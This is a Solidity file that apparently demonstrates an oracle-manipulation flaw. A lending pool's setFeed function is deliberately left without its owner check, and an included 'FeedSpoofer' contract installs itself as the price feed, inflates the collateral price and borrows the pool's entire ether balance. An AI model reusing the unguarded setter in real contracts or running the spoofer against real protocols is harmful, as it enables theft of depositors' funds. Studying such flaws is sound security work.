// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

interface IPriceFeed {
    /// @notice Ether per collateral token, 18 decimals.
    function price() external view returns (uint256);
}

interface ICollateral {
    function transferFrom(address from, address to, uint256 amount) external returns (bool);
    function approve(address spender, uint256 amount) external returns (bool);
}

/// @notice A price feed its owner sets.
contract OwnedFeed is IPriceFeed {
    address public immutable owner;
    uint256 public price;

    constructor(uint256 price_) {
        owner = msg.sender;
        price = price_;
    }

    function setPrice(uint256 price_) external {
        require(msg.sender == owner);
        price = price_;
    }
}

/// @notice Lends ether against a token valued by a price feed. Every parameter setter is
///         owner-only except setFeed, which lost its modifier.
contract FeedLendingPool {
    address public immutable owner;
    ICollateral public immutable collateralToken;
    IPriceFeed public feed;
    uint256 public ltvBps = 5_000;
    mapping(address => uint256) public supplied;
    mapping(address => uint256) public collateral;
    mapping(address => uint256) public debt;

    event FeedChanged(address feed);
    event LtvChanged(uint256 ltvBps);

    error NotOwner();
    error OverLimit(uint256 limit);
    error PaymentFailed();

    modifier onlyOwner() {
        if (msg.sender != owner) revert NotOwner();
        _;
    }

    constructor(ICollateral token, IPriceFeed feed_) {
        owner = msg.sender;
        collateralToken = token;
        feed = feed_;
    }

    function setLtv(uint256 ltvBps_) external onlyOwner {
        ltvBps = ltvBps_;
        emit LtvChanged(ltvBps_);
    }

    function setFeed(IPriceFeed feed_) external {
        feed = feed_;
        emit FeedChanged(address(feed_));
    }

    function supply() external payable {
        supplied[msg.sender] += msg.value;
    }

    function depositCollateral(uint256 amount) external {
        collateralToken.transferFrom(msg.sender, address(this), amount);
        collateral[msg.sender] += amount;
    }

    function borrow(uint256 amount) external {
        uint256 limit = (collateral[msg.sender] * feed.price() / 1e18) * ltvBps / 10_000;
        if (debt[msg.sender] + amount > limit) revert OverLimit(limit);
        debt[msg.sender] += amount;
        (bool ok,) = msg.sender.call{value: amount}("");
        if (!ok) revert PaymentFailed();
    }
}

/// @notice Attacker: installs itself as the pool's feed, pricing one token at 1e18 ether.
contract FeedSpoofer is IPriceFeed {
    function price() external pure returns (uint256) {
        return 1e36;
    }

    function attack(FeedLendingPool pool, uint256 pledged) external {
        pool.setFeed(this);
        pool.collateralToken().approve(address(pool), pledged);
        pool.depositCollateral(pledged);
        pool.borrow(address(pool).balance);
        (bool ok,) = msg.sender.call{value: address(this).balance}("");
        require(ok);
    }

    receive() external payable {}
}
